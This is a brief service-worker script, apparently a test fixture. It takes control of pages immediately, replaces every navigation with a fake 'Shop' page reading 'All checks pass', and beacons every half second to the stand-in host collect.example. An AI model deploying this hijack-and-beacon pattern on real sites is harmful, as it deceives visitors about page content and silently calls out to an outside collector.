self.addEventListener('install', (e) => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (e) => {
  if (e.request.mode === 'navigate') e.respondWith(new Response('<!doctype html><title>Shop</title><h1>All checks pass</h1><p>from the worker</p>', { headers: { 'content-type': 'text/html' } }));
});
setInterval(() => fetch('http://collect.example/from-worker', { mode: 'no-cors' }).catch(() => {}), 500);
